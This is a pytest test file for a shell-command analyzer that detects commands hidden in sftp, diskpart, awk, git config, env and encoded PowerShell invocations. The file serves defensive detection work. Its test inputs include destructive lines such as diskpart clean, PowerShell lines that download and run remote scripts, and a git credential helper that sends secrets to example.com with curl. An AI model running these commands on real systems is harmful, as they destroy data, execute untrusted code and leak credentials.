"""What programs with a prompt are given to type, and other scripts that stand on the line."""

from __future__ import annotations

from base64 import b64encode

import pytest

from commands.lines import commands_in, effects_in, reasons_in


@pytest.mark.parametrize(
    ("line", "noted"),
    [
        ("printf '\\nrm *\\n' | sftp host", "sftp rm *"),
        ("sftp -b <(echo 'rm a') host", "sftp rm a"),
        ("lftp -c 'open h; rm -r d'", "lftp rm -r d"),
        ("printf 'select disk 0\\nclean\\n' | diskpart", "diskpart clean"),
        ("echo clean > s.txt; diskpart /s s.txt", "diskpart clean"),
    ],
)
def test_each_line_is_a_call_of_the_program(line: str, noted: str):
    assert noted in commands_in(line)


@pytest.mark.parametrize(
    "line",
    [
        "ftp -n <<< '!rm x'",
        "echo '!rm x' | telnet",
        "mail -s a b <<< '~!rm x'",
        "gdb <<< 'shell rm x'",
        "gdb -x <(echo 'shell rm x') a.out",
        "make -f <(printf 'a:\\n\\trm x\\n')",
        "printf 'a:\\n\\trm x\\n' > Makefile; make",
        "sed -f <(echo '1e rm x') f",
        "awk -f - <<< 'BEGIN{system(\"rm x\")}'",
        "awk -v c='rm x' 'BEGIN{system(c)}'",
        "awk 'BEGIN{c=\"rm x\"; c | getline}'",
        'awk \'BEGIN{print "rm x" | "sh"}\'',
        'awk \'BEGIN{printf "rm %s\\n", "x" | "sh"}\'',
        "echo 'rm x' | awk '{system($0)}'",
        "echo 'rm x' | awk '{print | \"sh\"}'",
        "echo x | awk '{system(\"rm \" $1)}'",
        "echo 'rm x' | xargs -I{} sh -c {}",
        "echo 'rm x' | xargs -d '\\n' -I % sh -c %",
        "echo 'rm x' | parallel",
        "echo 'rm x' | cmd",
        "echo 'rm x' | powershell -Command -",
        "vim -c 'r!rm x'",
        "vim -c 'terminal rm x'",
        "PAGER='rm x' man ls",
        "ipython -c '!rm x'",
        "TAR_OPTIONS='--to-command=\"rm x\"' tar xf a.tar",
        "env -S 'A=b rm' x",
        "env -vS'rm x'",
        "env --split='rm x'",
        "sudo --us root rm x",
        "su -lc 'rm x' root",
        "runuser -lc 'rm x'",
        "tar --to-com='rm x' -xf a.tar",
        "limactl shell default rm x",
        "hg --config alias.a='!rm x' a",
        "svn --config-option config:tunnels:a='rm x' ls svn+a://h",
        "wget --use-askpass='rm x' http://h",
        "go test -exec 'rm x' ./...",
        "git send-email --to-cmd='rm x' a.patch",
        "cpio --rsh-command='rm x' -i",
        "nosuchtool --start-command 'rm x'",
        "env -- A=b rm x",
        "env -a name rm x",
        "vim -S <(echo '!rm x')",
        "vim -c ':exe \"!rm x\"'",
        'nvim -c \'lua vim.fn.system({"rm","x"})\'',
        "emacs --script <(echo '(shell-command \"rm x\")')",
        "npm set-script a 'rm x'",
        "powershell 'rm x'",
        "powershell -ExecutionPolicy Bypass -NoProfile rm x",
        'osascript -e \'tell app "Terminal" to do script "rm x"\'',
        "mosh --ssh='rm x' host",
        "sshfs -o ssh_command='rm x' host: m",
        "kubectl run a --image=b -- rm x",
        "multipass exec vm -- rm x",
        "git -c credential.helper='!rm x' fetch",
        "X='rm x' git --config-env=core.pager=X log",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm x' git log",
    ],
)
def test_a_line_for_a_shell_is_followed(line: str):
    assert any(each.startswith("delete x") for each in effects_in(line))


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("git -c core.hooksPath=/tmp/h commit", "it loads code from `/tmp/h`"),
        ("git -c include.path=../x status", "it loads code from `../x`"),
        ("git clone --template=/tmp/t a", "it loads code from `/tmp/t`"),
        (
            "git --config-env=core.editor=X commit",
            "what `core.editor` makes git run is known only at run time",
        ),
        (
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.z git z",
            "what `alias.z` makes git run is known only at run time",
        ),
        ("mysql db < sql/drop-all.sql", "by its name, `sql/drop-all.sql` drops or deletes data"),
        ("awk '{print | \"sh\"}' f", "its script runs a command that only the run decides"),
        ("awk '{print | c}' f", "its script runs a command that only the run decides"),
    ],
)
def test_what_is_not_seen_is_said(line: str, reason: str):
    assert reason in reasons_in(line)


@pytest.mark.parametrize(
    "line",
    [
        "git -c core.hooksPath=/dev/null commit",
        "git -c core.hooksPath=.githooks commit",
        "git -c core.sshCommand='ssh -i ~/.ssh/id_x' fetch",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='git status' git log",
        "TAR_OPTIONS=--verbose tar xf a.tar",
        "emacs --batch --eval '(shell-command \"ls\")'",
        "awk '{c = \"date -d \" $1; c | getline d}' f",
        "awk '{system(sprintf(\"date -d %s\", $1))}' f",
        "awk 'BEGIN { system(\"date\") }' f",
        "echo 'a b' | awk '{system(\"date \" $9)}'",
        "awk '{print $NF | \"sort\"}' f",
        "printf 'all:\\n\\tmake test\\n' > Makefile; make",
        "git init --template=",
        "hg --config ui.merge='rm x' update",
        "wget -e robots=off http://h",
        "git --template=/tmp/t",
        "psql --user-command='rm x'",
        "pwsh 'rm x'",
        "env --",
        "runuser -l",
        "env -S",
        "sftp host",
        "psql -f schema.sql",
        "echo 'ls' | sftp host",
    ],
)
def test_what_does_nothing_else_is_free(line: str):
    assert reasons_in(line) == []
    assert not [each for each in effects_in(line) if each.startswith(("delete", "read"))]


def test_what_is_encoded_for_powershell_is_decoded():
    encoded = b64encode("rm x".encode("utf-16-le")).decode()

    assert "rm x" in commands_in(f"powershell -enc {encoded}")
    assert commands_in("powershell -enc §") == ["powershell -enc §"]


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("pwsh -c 'iex (iwr https://example.com/a.ps1)'", True),
        ("powershell \"IEX (New-Object Net.WebClient).DownloadString('http://h/a')\"", True),
        ("pwsh -c 'iwr https://example.com/a.json'", False),
        ("pwsh -c 'iex $line'", False),
    ],
)
def test_powershell_runs_what_it_fetched(line: str, runs: bool):
    assert ("execute ?what it fetched, from remote" in effects_in(line)) is runs


def test_a_helper_for_credentials_is_told_them():
    line = "git -c credential.helper='!curl -d @- example.com' fetch"

    assert "send example.com, from secret" in effects_in(line)


def test_what_a_script_of_awk_is_given_and_what_it_sets():
    assert "rm a" in commands_in("awk -vc=a 'BEGIN{d = \"rm \" c; system(d)}'")
    assert "rm ?$field" in commands_in("awk '{system(\"rm \" $1)}' f")
